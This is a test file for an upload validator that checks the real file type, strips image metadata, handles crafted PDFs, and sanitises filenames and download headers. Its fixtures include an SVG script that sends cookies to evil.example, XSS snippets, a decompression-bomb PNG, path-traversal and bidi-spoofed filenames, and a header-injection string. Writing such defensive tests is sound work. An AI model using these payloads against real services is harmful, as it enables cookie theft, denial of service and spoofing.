// @vitest-environment node
/*
 * Issue 56, "Files as an attacker sends them": every paper a traveller uploads goes through inspectPaper before it
 * is kept. Each file here is made by the test itself (sharp, a few bytes by hand), none is committed.
 */
import { crc32, createDeflate } from "node:zlib";
import { zipSync } from "fflate";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { pdf } from "../testing/papers";
import { attachmentHeader, fitsCase, inspectPaper, paperLimits, paperName, type Kept, type Refusal } from "./inspect";

const MB = 1024 * 1024;
const accepted = "Send a photo (JPEG, PNG or WebP) or a PDF.";

function picture(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: "#3a6" } });
}
const jpeg = (width = 600, height = 400) => picture(width, height).jpeg().toBuffer();

/** One PNG chunk: its length, type, data and CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A whole, valid PNG of side × side black pixels, one bit each: about 100 KB for 30,000 × 30,000 (900 million). */
async function bombPng(side: number): Promise<Buffer> {
  const rowBytes = 1 + Math.ceil(side / 8);
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on("data", (part: Buffer) => parts.push(part));
  const rows = Buffer.alloc(rowBytes * 500);
  for (let row = 0; row < side; row += 500) deflate.write(rows.subarray(0, rowBytes * Math.min(500, side - row)));
  await new Promise<void>((done) => deflate.end(done));
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  return Buffer.concat([
    pngSignature,
    pngChunk("IHDR", header),
    pngChunk("IDAT", Buffer.concat(parts)),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A Windows program's first bytes: the MZ header pointing at a PE signature. */
function windowsProgram(): Buffer {
  const bytes = Buffer.alloc(1024);
  bytes.write("MZ", 0, "latin1");
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write("PE\0\0", 0x80, "latin1");
  bytes.writeUInt16LE(0x14c, 0x84); // i386
  return bytes;
}

/** An iPhone photo's first box: ftyp with the brand heic (the rest does not matter: refused by its type). */
function heicPhoto(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.writeUInt32BE(24, 0);
  bytes.write("ftypheic", 4, "latin1");
  bytes.write("mif1heic", 16, "latin1");
  return bytes;
}

function refused(result: Kept | Refusal): Refusal {
  if (result.ok) throw new Error(`expected a refusal, kept a ${result.type}`);
  return result;
}
function kept(result: Kept | Refusal): Kept {
  if (!result.ok) throw new Error(`expected the file kept, refused: ${result.code}: ${result.message}`);
  return result;
}

describe("inspectPaper: the real type is read from the bytes, never the name", () => {
  it("refuses a Windows program named photo.jpg, saying what it is and what is taken", async () => {
    const result = refused(await inspectPaper(windowsProgram(), "photo.jpg"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toBe(`This file is a Windows program (.exe), not a photo or a PDF. ${accepted}`);
  });

  it("refuses an SVG drawing with a script inside, named passport.png", async () => {
    const svg = Buffer.from(
      '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
        '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10"/></svg>',
    );
    const result = refused(await inspectPaper(svg, "passport.png"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toBe(`This file is a drawing (SVG), not a photo or a PDF. ${accepted}`);
  });

  it("refuses an SVG without its XML declaration too", async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>');
    const result = refused(await inspectPaper(svg, "passport.png"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toContain("a drawing (SVG)");
  });

  it("refuses an HTML page named scan.pdf", async () => {
    const html = Buffer.from(
      "\ufeff  <!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>",
    );
    const result = refused(await inspectPaper(html, "scan.pdf"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toBe(`This file is a web page (HTML), not a photo or a PDF. ${accepted}`);
  });

  it("refuses plain text it cannot name, saying what is taken", async () => {
    const result = refused(await inspectPaper(Buffer.from("just some words, nothing else"), "passport.jpg"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toBe(`This file is not a photo or a PDF. ${accepted}`);
  });

  it("keeps a PDF named passport.jpg as a PDF, byte for byte, its name ending .pdf", async () => {
    const bytes = pdf(3);
    const result = kept(await inspectPaper(bytes, "passport.jpg"));
    expect(result.type).toBe("application/pdf");
    expect(result.bytes.equals(bytes)).toBe(true);
    expect(result.name).toBe("passport.pdf");
    expect(result.pages).toBe(3);
    expect([result.width, result.height]).toEqual([null, null]);
  });

  it("keeps a JPEG named scan.pdf as a JPEG, its name ending .jpg", async () => {
    const result = kept(await inspectPaper(await jpeg(), "scan.pdf"));
    expect(result.type).toBe("image/jpeg");
    expect(result.name).toBe("scan.jpg");
    expect((await sharp(result.bytes).metadata()).format).toBe("jpeg");
    expect([result.width, result.height, result.pages]).toEqual([600, 400, null]);
  });

  it("refuses a GIF, saying it is a kind of picture it cannot take", async () => {
    const gif = await picture(40, 30).gif().toBuffer();
    const result = refused(await inspectPaper(gif, "photo.gif"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toBe(`This file is a GIF picture (.gif), a kind we cannot take. ${accepted}`);
  });

  it("refuses a TIFF", async () => {
    const tiff = await picture(40, 30).tiff().toBuffer();
    const result = refused(await inspectPaper(tiff, "scan.jpg"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toBe(`This file is a TIFF picture (.tif), a kind we cannot take. ${accepted}`);
  });

  it("refuses a ZIP archive", async () => {
    const zip = Buffer.from(zipSync({ "passport.jpg": new Uint8Array(await jpeg()) }));
    const result = refused(await inspectPaper(zip, "papers.pdf"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toBe(`This file is a ZIP archive (.zip), not a photo or a PDF. ${accepted}`);
  });

  it("refuses an iPhone's HEIC photo, saying how to send it as JPEG", async () => {
    const result = refused(await inspectPaper(heicPhoto(), "IMG_0001.jpg"));
    expect(result.code).toBe("not-allowed");
    expect(result.message).toContain("HEIC");
    expect(result.message).toContain("“Most Compatible”");
    expect(result.message).toContain("JPEG");
  });

  it("refuses a file that starts like a PDF (%PDF) but is not one (no %PDF-)", async () => {
    // file-type takes %PDF at the start for a PDF: the version's dash after it is checked too.
    const result = refused(await inspectPaper(Buffer.from("%PDF<html><script>alert(1)</script></html>"), "scan.pdf"));
    expect(result.code).toBe("unreadable");
    expect(result.message).toBe(
      "This PDF could not be opened: the file is damaged or was not sent whole. Please save or scan it again and send it.",
    );
  });

  it("refuses a PDF with anything before its %PDF- header", async () => {
    const result = refused(await inspectPaper(Buffer.concat([Buffer.from("<html>"), pdf(1)]), "scan.pdf"));
    expect(result.code).toBe("not-allowed");
  });
});

describe("inspectPaper: sizes and pixels, refused before they cost anything", () => {
  it("refuses an empty file", async () => {
    const result = refused(await inspectPaper(Buffer.alloc(0), "passport.jpg"));
    expect(result.code).toBe("empty");
    expect(result.message).toBe("This file is empty. Choose it again, or take the photo again.");
  });

  it("refuses 200 MB as too big at once, without reading it", async () => {
    // A photo's bytes at its start, then nothing written (allocUnsafe): read, it would be a JPEG to decode.
    const huge = Buffer.allocUnsafe(200 * MB);
    (await jpeg(6000, 4000)).copy(huge);
    const started = performance.now();
    const result = refused(await inspectPaper(huge, "passport.jpg"));
    expect(performance.now() - started).toBeLessThan(500);
    expect(result.code).toBe("too-big");
    expect(result.message).toBe(
      "This file is 200 MB; the most we take is 15 MB a file. Send a smaller photo or PDF (a photo from your phone's camera is much smaller).",
    );
  });

  it("takes a file of exactly the limit to be read, and refuses one byte more", async () => {
    const atLimit = Buffer.alloc(paperLimits.fileBytes);
    expect(refused(await inspectPaper(atLimit, "a.jpg")).code).toBe("not-allowed");
    const over = Buffer.alloc(paperLimits.fileBytes + 1);
    expect(refused(await inspectPaper(over, "a.jpg")).code).toBe("too-big");
  });

  it("refuses a decompression bomb (a 100 KB PNG of 900 million pixels) quickly, without decoding it", async () => {
    const bomb = await bombPng(30_000);
    expect(bomb.length).toBeLessThan(200_000);
    const before = process.memoryUsage().rss;
    const started = performance.now();
    const result = refused(await inspectPaper(bomb, "passport.png"));
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * MB);
    expect(result.code).toBe("too-many-pixels");
    expect(result.message).toBe(
      "This picture is too large to open: 30,000 × 30,000 pixels, and the most we take is 40 million. Send a photo from your phone's camera, or make the picture smaller.",
    );
  });

  it("refuses a truncated JPEG as unreadable, asking for the photo again", async () => {
    const whole = await picture(800, 600)
      .composite([{ input: await picture(200, 200).tint("#c33").png().toBuffer(), left: 100, top: 100 }])
      .jpeg()
      .toBuffer();
    const result = refused(await inspectPaper(whole.subarray(0, Math.floor(whole.length * 0.6)), "passport.jpg"));
    expect(result.code).toBe("unreadable");
    expect(result.message).toBe(
      "This photo could not be opened: the file is damaged or was not sent whole. Please take the photo again and send it.",
    );
  });

  it("refuses a PNG whose data is corrupt as unreadable", async () => {
    const png = await picture(300, 200).png().toBuffer();
    const corrupt = Buffer.from(png);
    corrupt.fill(0xa5, 60, png.length - 20);
    const result = refused(await inspectPaper(corrupt, "screenshot.png"));
    expect(result.code).toBe("unreadable");
  });
});

describe("inspectPaper: images are decoded and written again, clean", () => {
  it("drops the GPS position, the camera, the XMP, the ICC profile and the comments of a JPEG", async () => {
    const withEverything = await picture(600, 400)
      .jpeg()
      .withExif({
        IFD0: { Make: "AcmeCam", Model: "Spy 9", Software: "SecretApp 1.0" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "25/1 14/1 0/1",
          GPSLongitudeRef: "E",
          GPSLongitude: "55/1 18/1 0/1",
          GPSMapDatum: "WGS-84",
        },
      })
      .withIccProfile("p3")
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description about="XmpSecretPlace"/></x:xmpmeta>')
      .toBuffer();
    // A comment segment (COM) after the start of the image, where a camera or an editor writes one.
    const comment = Buffer.from("CommentSecretHotel");
    const segment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
    const input = Buffer.concat([withEverything.subarray(0, 2), segment, withEverything.subarray(2)]);
    const inputMetadata = await sharp(input).metadata();
    expect(inputMetadata.exif).toBeDefined();
    expect(inputMetadata.icc).toBeDefined();
    expect(inputMetadata.xmp).toBeDefined();
    for (const secret of ["AcmeCam", "WGS-84", "XmpSecretPlace", "CommentSecretHotel"])
      expect(input.includes(secret)).toBe(true);

    const result = kept(await inspectPaper(input, "passport.jpg"));
    const metadata = await sharp(result.bytes).metadata();
    expect(metadata.format).toBe("jpeg");
    expect(metadata.exif).toBeUndefined();
    expect(metadata.icc).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(metadata.comments ?? []).toEqual([]);
    for (const secret of [
      "Exif",
      "GPS",
      "AcmeCam",
      "Spy 9",
      "SecretApp",
      "WGS-84",
      "XmpSecretPlace",
      "CommentSecretHotel",
    ])
      expect(result.bytes.includes(secret)).toBe(false);
  });

  it("turns a photo as its EXIF orientation says, then drops the orientation", async () => {
    // Left half red, right half blue, stored 600 × 400 with orientation 6 (shown turned a quarter clockwise).
    const width = 600;
    const height = 400;
    const raw = Buffer.alloc(width * height * 3);
    for (let y = 0; y < height; y++)
      for (let x = 0; x < width; x++) raw.set(x < width / 2 ? [220, 30, 30] : [30, 30, 220], (y * width + x) * 3);
    const input = await sharp(raw, { raw: { width, height, channels: 3 } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await sharp(input).metadata()).orientation).toBe(6);

    const result = kept(await inspectPaper(input, "passport.jpg"));
    expect([result.width, result.height]).toEqual([400, 600]);
    const { data, info } = await sharp(result.bytes).raw().toBuffer({ resolveWithObject: true });
    expect([info.width, info.height]).toEqual([400, 600]);
    const pixel = (x: number, y: number) => [...data.subarray((y * 400 + x) * 3, (y * 400 + x) * 3 + 3)];
    // Turned clockwise, the left half is on top.
    expect(pixel(200, 20)[0]).toBeGreaterThan(150);
    expect(pixel(200, 20)[2]).toBeLessThan(100);
    expect(pixel(200, 580)[2]).toBeGreaterThan(150);
    expect((await sharp(result.bytes).metadata()).orientation).toBeUndefined();
  });

  it("makes a 6000 × 4000 photo 3000 × 2000", async () => {
    const result = kept(await inspectPaper(await jpeg(6000, 4000), "IMG_2041.JPG"));
    expect([result.width, result.height]).toEqual([3000, 2000]);
    const metadata = await sharp(result.bytes).metadata();
    expect([metadata.format, metadata.width, metadata.height]).toEqual(["jpeg", 3000, 2000]);
    expect(result.name).toBe("IMG_2041.jpg");
  });

  it("never enlarges a small photo", async () => {
    const result = kept(await inspectPaper(await jpeg(320, 240), "small.jpg"));
    expect([result.width, result.height]).toEqual([320, 240]);
  });

  it("keeps a PNG a PNG, without its text chunks", async () => {
    const png = await picture(300, 200).png().toBuffer();
    const text = pngChunk("tEXt", Buffer.from("Comment\0PngSecretStreet", "latin1"));
    const input = Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]);
    expect(input.includes("PngSecretStreet")).toBe(true);
    const result = kept(await inspectPaper(input, "screenshot.jpeg"));
    expect(result.type).toBe("image/png");
    expect(result.name).toBe("screenshot.png");
    expect((await sharp(result.bytes).metadata()).format).toBe("png");
    expect(result.bytes.includes("PngSecretStreet")).toBe(false);
  });

  it("keeps a WebP a WebP, without its EXIF", async () => {
    const input = await picture(300, 200)
      .webp()
      .withExif({ IFD0: { Make: "WebpSecretCam" } })
      .toBuffer();
    expect(input.includes("WebpSecretCam")).toBe(true);
    const result = kept(await inspectPaper(input, "photo"));
    expect(result.type).toBe("image/webp");
    expect(result.name).toBe("photo.webp");
    const metadata = await sharp(result.bytes).metadata();
    expect([metadata.format, metadata.exif]).toEqual(["webp", undefined]);
    expect(result.bytes.includes("WebpSecretCam")).toBe(false);
  });
});

describe("inspectPaper: PDFs", () => {
  it("counts a PDF's pages", async () => {
    expect(kept(await inspectPaper(pdf(1), "visa.pdf")).pages).toBe(1);
    expect(kept(await inspectPaper(pdf(12), "visa.pdf")).pages).toBe(12);
  });

  it("keeps a PDF whose pages it cannot count, with pages null", async () => {
    // Its page tree inside a compressed object stream: not counted (no parsing of streams), kept all the same.
    const bytes = Buffer.from(
      "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n5 0 obj\n<< /Type /ObjStm /N 3 /First 12 /Filter /FlateDecode /Length 4 >>\nstream\nx\x9c\x03\x00\nendstream\nendobj\nstartxref\n0\n%%EOF\n",
      "latin1",
    );
    const result = kept(await inspectPaper(bytes, "scan.pdf"));
    expect(result.pages).toBeNull();
    expect(result.bytes.equals(bytes)).toBe(true);
  });
});

describe("inspectPaper: crafted PDFs cost little and never throw", () => {
  it.each([
    ["one dictionary opened, then nothing", "<<", " "],
    ["dictionaries opened and never closed", "", "<< /A << /B "],
    ["a page tree's /Type over and over", "", "/Type /Pages /Count 3 "],
    ["a page tree's /Type, then nothing", "/Type /Pages", " "],
    ["pages over and over", "", "/Type /Page "],
    ["an object's start over and over", "", "1 0 obj << "],
  ])("keeps a 15 MB PDF of %s quickly", async (_what, start, piece) => {
    const bytes = Buffer.concat([
      Buffer.from(`%PDF-1.7\n${start}`),
      Buffer.from(piece.repeat(Math.ceil(paperLimits.fileBytes / piece.length))),
    ]).subarray(0, paperLimits.fileBytes);
    const started = performance.now();
    const result = kept(await inspectPaper(bytes, "scan.pdf"));
    expect(performance.now() - started).toBeLessThan(3_000);
    expect(result.bytes.equals(bytes)).toBe(true);
  });

  it("counts the pages of a page tree whose dictionary holds another", async () => {
    const bytes = Buffer.from(
      "%PDF-1.4\n2 0 obj\n<< /Type /Pages /Resources << /Font << /F1 9 0 R >> >> /Kids [3 0 R 4 0 R] /Count 2 >>\nendobj\n%%EOF\n",
    );
    expect(kept(await inspectPaper(bytes, "visa.pdf")).pages).toBe(2);
  });
});

describe("inspectPaper: whatever the bytes, an answer, never a throw", () => {
  it("answers a kept file or a refusal for damaged files behind every accepted or known type's first bytes", async () => {
    const starts = [
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]), // JPEG
      Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff, 0x45, 0x78, 0x69, 0x66, 0, 0]), // JPEG with a broken EXIF
      pngSignature,
      Buffer.concat([pngSignature, Buffer.from([0, 0, 0, 13]), Buffer.from("IHDR")]),
      Buffer.from("RIFF\xff\xff\xff\x7fWEBPVP8 ", "latin1"),
      Buffer.from("RIFF\x10\x00\x00\x00WEBPVP8X", "latin1"),
      Buffer.from("%PDF-"),
      Buffer.from("PK\x03\x04", "latin1"),
      Buffer.from("\x00\x00\x00\x18ftypheic", "latin1"),
      Buffer.from("\x00\x00\x00\x18ftypavif", "latin1"),
      Buffer.from("II*\x00", "latin1"),
      Buffer.from("<?xml "),
    ];
    let seed = 56;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (const start of starts)
      for (const length of [0, 1, 7, 64, 700]) {
        const tail = Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
        const result = await inspectPaper(Buffer.concat([start, tail]), "paper.jpg");
        expect(typeof result.ok).toBe("boolean");
        if (!result.ok) expect(result.message.length).toBeGreaterThan(20);
      }
  });
});

describe("fitsCase: before the bytes are read", () => {
  it("lets the 20th file in and refuses the 21st", () => {
    expect(fitsCase({ files: 19, bytes: 10 * MB }, 1 * MB)).toBeNull();
    const refusal = fitsCase({ files: 20, bytes: 10 * MB }, 1 * MB);
    expect(refusal?.code).toBe("case-full");
    expect(refusal?.message).toBe(
      "Your case already holds 20 files, the most it can take. If we need more from you, we will ask: call or WhatsApp us.",
    );
  });

  it("lets a case reach 60 MB and refuses a file that takes it past", () => {
    expect(fitsCase({ files: 5, bytes: 58 * MB }, 2 * MB)).toBeNull();
    const refusal = fitsCase({ files: 5, bytes: 58 * MB }, 2 * MB + 1);
    expect(refusal?.code).toBe("case-too-big");
    expect(refusal?.message).toBe(
      "This file would take your case past 60 MB, the most it can hold (58 MB already sent). Send a smaller file, or call or WhatsApp us.",
    );
  });

  it("refuses a file too big or empty before it is sent", () => {
    expect(fitsCase({ files: 0, bytes: 0 }, paperLimits.fileBytes)).toBeNull();
    expect(fitsCase({ files: 0, bytes: 0 }, paperLimits.fileBytes + 1)?.code).toBe("too-big");
    expect(fitsCase({ files: 0, bytes: 0 }, 0)?.code).toBe("empty");
  });

  it("refuses a size that is no size (not a whole number, negative, infinite)", () => {
    for (const size of [Number.NaN, -1, 1.5, Number.POSITIVE_INFINITY]) {
      expect(fitsCase({ files: 0, bytes: 0 }, size)).not.toBeNull();
    }
  });
});

describe("paperName: a name safe to show, never a path", () => {
  it.each([
    ["../../etc/passwd.jpg", "image/jpeg", "passwd.jpg"],
    ["..\\..\\Windows\\System32\\passport.png", "image/png", "passport.png"],
    ["C:\\Users\\Amal\\Desktop\\visa copy.pdf", "application/pdf", "visa copy.pdf"],
    ["/var/www/x/", "image/jpeg", "paper.jpg"],
    ["photo.exe", "image/jpeg", "photo.jpg"],
    ["passport.jpg", "application/pdf", "passport.pdf"],
    ["", "image/jpeg", "paper.jpg"],
    ["...", "image/webp", "paper.webp"],
    ["..", "image/jpeg", "paper.jpg"],
    [". . .", "image/jpeg", "paper.jpg"],
    [".htaccess", "image/png", "htaccess.png"],
    ["pass\u0000port.jpg", "image/jpeg", "passport.jpg"],
    ["my\r\nphoto\t1.jpg", "image/jpeg", "myphoto1.jpg"],
    ["photo\u202Egpj.exe", "image/jpeg", "photogpj.jpg"],
    ["\u202Dvisa\u2066.pdf\u2069.jpg", "application/pdf", "visa.pdf.pdf"],
    ["zero\u200Bwidth\uFEFF.png", "image/png", "zerowidth.png"],
    ['a<b>c:d"e|f?g*h.jpg', "image/jpeg", "a_b_c_d_e_f_g_h.jpg"],
    ["  lots   of    space  .jpg", "image/jpeg", "lots of space.jpg"],
    ["جواز السفر.jpg", "image/jpeg", "جواز السفر.jpg"],
    ["IMG_0001.HEIC", "image/jpeg", "IMG_0001.jpg"],
  ] as const)("%j read as %s -> %j", (declared, type, name) => {
    expect(paperName(declared, type)).toBe(name);
  });

  it("cuts a very long name to 100 characters, keeping the real extension", () => {
    const name = paperName(`${"a".repeat(5000)}.exe`, "image/jpeg");
    expect(name).toBe(`${"a".repeat(96)}.jpg`);
    const emoji = paperName(`${"👍".repeat(300)}.png`, "image/png");
    expect(Array.from(emoji)).toHaveLength(100);
    expect(emoji.endsWith("👍.png")).toBe(true);
    expect(() => encodeURIComponent(emoji)).not.toThrow(); // a lone surrogate would throw
  });

  it("never gives a name with a path, a control or a bidirectional character, whatever it is given", () => {
    const nasty = ["/", "\\", "\u0000", "\u001b", "\u007f", "\u0085", "\u202e", "\u2066", "\u200f", "\ud800", ".", " "];
    for (let round = 0; round < 500; round++) {
      const declared = Array.from(
        { length: 1 + (round % 40) },
        (_, index) => nasty[(round * 7 + index * 13) % nasty.length],
      )
        .concat("x")
        .join("");
      const name = paperName(declared, "image/jpeg");
      expect(name).toMatch(/^[^/\\]{1,96}\.jpg$/);
      // eslint-disable-next-line no-control-regex -- matching control characters is the point
      expect(name).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
      expect(() => encodeURIComponent(name)).not.toThrow();
      expect(name.startsWith(".")).toBe(false);
    }
  });
});

describe("attachmentHeader: a download, never a header injection", () => {
  it("gives an ASCII name as it is", () => {
    expect(attachmentHeader("passport.jpg")).toBe(`attachment; filename="passport.jpg"; filename*=UTF-8''passport.jpg`);
  });

  it("gives an Arabic name in filename* and an ASCII stand-in in filename", () => {
    const header = attachmentHeader("جواز السفر.pdf");
    expect(header).toBe(
      `attachment; filename="paper.pdf"; filename*=UTF-8''%D8%AC%D9%88%D8%A7%D8%B2%20%D8%A7%D9%84%D8%B3%D9%81%D8%B1.pdf`,
    );
    const encoded = /filename\*=UTF-8''(.+)$/.exec(header)?.[1] ?? "";
    expect(decodeURIComponent(encoded)).toBe("جواز السفر.pdf");
  });

  it("keeps the ASCII part of a mixed name in filename", () => {
    expect(attachmentHeader("visa جواز 2.jpg")).toMatch(
      /^attachment; filename="visa _ 2\.jpg"; filename\*=UTF-8''visa%20/,
    );
  });

  it("lets no quote, semicolon, backslash, percent or line break out of its place", () => {
    const header = attachmentHeader('a"; filename=evil.html\r\nSet-Cookie: x=1;\\%41.jpg');
    expect(header).not.toMatch(/[\r\n]/);
    // One filename parameter and one filename*: what the name holds stays inside them.
    const quoted = /^attachment; filename="([^"]*)"; filename\*=UTF-8''([A-Za-z0-9!#$&+\-.^_`|~%]+)$/.exec(header);
    expect(quoted).not.toBeNull();
    expect(quoted?.[1]).not.toMatch(/["\\%;]/);
    expect(decodeURIComponent(quoted?.[2] ?? "")).toBe('a"; filename=evil.htmlSet-Cookie: x=1;\\%41.jpg');
    // Node refuses to send a header with a line break: this one it sends.
    expect(() => new Headers({ "content-disposition": header })).not.toThrow();
  });

  it("percent-encodes what RFC 5987 does not allow bare, such as ' ( ) *", () => {
    expect(attachmentHeader("it's (1)*.jpg")).toBe(
      `attachment; filename="it's (1)*.jpg"; filename*=UTF-8''it%27s%20%281%29%2A.jpg`,
    );
  });
});
